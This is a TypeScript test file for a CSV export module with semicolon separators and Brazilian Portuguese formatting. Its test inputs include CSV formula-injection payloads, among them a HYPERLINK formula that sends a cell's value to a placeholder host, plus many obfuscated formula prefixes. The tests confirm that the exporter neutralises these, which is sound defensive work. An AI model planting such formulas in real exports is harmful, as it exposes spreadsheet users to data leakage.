import { text } from 'node:stream/consumers';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { type CsvRow, csvLine, csvText, withoutApostrophe } from '#contract/csv.ts';
import { csvStream } from './write-csv.ts';

/** As a spreadsheet reads it. */
const read = (csv: string): string[][] => parse(csv, { bom: true, delimiter: ';' });

test('a file begins with the mark of UTF-8, has ; between cells and CRLF after each line', () => {
  expect(csvText(['Nome', 'Cidade'], [['Ana Conceição', 'São Paulo']])).toBe(
    '\uFEFFNome;Cidade\r\nAna Conceição;São Paulo\r\n',
  );
});

test('a cell with a separator, a quote or a line end is in quotes, and its quotes are doubled', () => {
  expect(csvLine(['a;b', 'disse "oi"', 'um\ndois', 'a,b', ' com margem ', 'simples'])).toBe(
    '"a;b";"disse ""oi""";"um\ndois";"a,b";" com margem ";simples\r\n',
  );
});

test('numbers have a decimal comma, truth values are words, and nothing is an empty cell', () => {
  expect(csvLine([1.5, -3, 12n, true, false, null, undefined, ''])).toBe('"1,5";-3;12;sim;não;;;\r\n');
});

test.each([
  '=1+1',
  '=HYPERLINK("http://example.test?x="&A1;"Clique")',
  '+5511999990000',
  '-1+1',
  '@SUM(A1)',
  '  =1+1',
  '\u00A0=1+1',
  '\u200B=1+1',
  '\u0001=1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\tqualquer',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  ' ＝1+1',
])('%j is not calculated by a spreadsheet', (cell) => {
  expect(read(csvLine([cell]))).toEqual([[`'${cell}`]]);
});

test.each(['Ana', 'a=1', 'ana@example.test', '11 99999-0000', '2026-11-22', '(-)', 'x\n=1+1'])(
  '%j stays as it is',
  (cell) => {
    expect(read(csvLine([cell]))).toEqual([[cell]]);
  },
);

const cells = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc.array(fc.constantFrom(...' \t\r\n"\';,=+-@＝\u200B\u0001a')).map((letters) => letters.join('')),
);

test('any text is read again as it was, without the apostrophe before a formula', () => {
  const plain = (rows: string[][]) => rows.map((row) => row.map(withoutApostrophe));
  fc.assert(
    fc.property(fc.array(fc.tuple(cells, cells, cells), { minLength: 1 }), (rows) => {
      const [, ...found] = read(csvText(['a', 'b', 'c'], rows));
      expect(plain(found)).toEqual(plain(rows));
    }),
  );
  expect(withoutApostrophe("'tis")).toBe("'tis");
});

test('no cell begins a formula, whatever is before it', () => {
  fc.assert(
    fc.property(cells, (cell) => {
      const written = read(csvLine([cell, 'x']))[0]?.[0] ?? '';
      expect(written.replace(/^[\s\p{Cc}\p{Cf}]+/u, '')).not.toMatch(/^[=+\-@＝＋－＠]/u);
    }),
  );
});

test('the stream has the same bytes as the text', async () => {
  const rows = Array.from({ length: 20_000 }, (_, line): CsvRow => [line, `Paciente ${line}`, '=1+1']);
  expect(await text(csvStream(['Número', 'Nome', 'Nota'], rows))).toBe(
    csvText(['Número', 'Nome', 'Nota'], rows).replace('\uFEFF', ''),
  );
});

test('the stream fails where its rows fail, and closes them when it is closed', async () => {
  let isClosed = false;
  async function* broken() {
    yield ['a'];
    throw new Error('the rows ended early');
  }
  async function* endless() {
    try {
      for (;;) yield ['um texto'.repeat(100)];
    } finally {
      isClosed = true;
    }
  }
  await expect(text(csvStream(['Nome'], broken()))).rejects.toThrow('the rows ended early');
  for await (const chunk of csvStream(['Nome'], endless())) {
    expect(chunk.length).toBeGreaterThan(0);
    break;
  }
  await expect.poll(() => isClosed).toBe(true);
});
